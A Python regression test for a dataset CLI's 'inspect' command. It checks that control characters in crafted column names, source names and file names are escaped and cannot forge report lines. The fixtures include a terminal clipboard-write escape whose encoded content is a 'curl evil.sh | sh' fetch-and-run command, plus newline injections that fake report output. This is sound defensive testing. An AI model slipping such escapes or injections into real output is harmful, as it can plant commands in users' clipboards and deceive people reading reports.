"""Issue 34, attack 7: text from a dataset reaches no terminal raw, and forges no line of a report.

An ``index.json`` column name carrying OSC 52 (writes the clipboard) and CSI 2J (clears the screen), and a
commit's source name and audit key carrying newlines and a forged report line, printed by ``inspect``; the same
in an error message. On the code before issue 34 each reached stdout or stderr as it was.
"""

from __future__ import annotations

import json
import os

from streaming import MDSWriter
from streaming.format import commit_log
from streaming.storage.dataset_root import DatasetRoot
from tests.cli.conftest import run_cli

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
CLEAR = "\x1b[2J"
FORGED = "source   main.default.events   table version 999"


def _raw(text: str) -> list[str]:
    """The control characters in ``text`` other than the newlines that end its lines."""
    return [char for char in text if not char.isprintable() and char != "\n"]


def _dataset(path: str) -> None:
    with MDSWriter(out=path, columns={"id": "int", "text": "str"}) as writer:
        writer.write({"id": 1, "text": "a"})
    with open(os.path.join(path, "index.json")) as file:
        index = json.load(file)
    index["shards"][0]["column_names"] = ["id", f"text{CLIPBOARD}{CLEAR}"]
    with open(os.path.join(path, "index.json"), "w") as file:
        json.dump(index, file)


def test_inspect_shows_control_characters_of_column_names_and_sources_without_sending_them(tmp_path):
    path = str(tmp_path / "ds")
    _dataset(path)
    root = DatasetRoot(path)
    state = commit_log.read_snapshot(root)
    audit = {"table_version": 3, "key": [f"id\n{FORGED}"], "removed": [], "replaced": []}
    commit_log.commit(root, commit_log.APPEND, [], base=state, source_versions={f"evil\n{FORGED}": 1}, audit=audit)
    code, text, err = run_cli("inspect", path, "--samples", "1", "--audit", "5")
    assert code == 0, err
    assert _raw(text) == [] and _raw(err) == []
    assert "\\x1b]52;c;" in text and "\\x1b[2J" in text  # shown, escaped
    assert FORGED not in text.splitlines(), "a source name forged a report line"
    assert "source   evil\\nsource   main.default.events   table version 999   table version 1" in text
    assert f"({commit_log.commit_path(1)})" in text  # the audit names the file each entry came from


def test_an_error_quoting_a_crafted_name_is_one_line_without_control_characters(tmp_path):
    path = str(tmp_path / "ds")
    _dataset(path)
    with open(os.path.join(path, "index.json")) as file:
        index = json.load(file)
    index["shards"][0]["raw_data"]["basename"] = f"shard{CLEAR}\nmds-streaming inspect: all good.mds"
    with open(os.path.join(path, "index.json"), "w") as file:
        json.dump(index, file)
    code, _, err = run_cli("inspect", path)
    assert code == 1
    assert _raw(err) == [] and "\\x1b[2J" in err
    assert "mds-streaming inspect: all good.mds" not in err.splitlines()
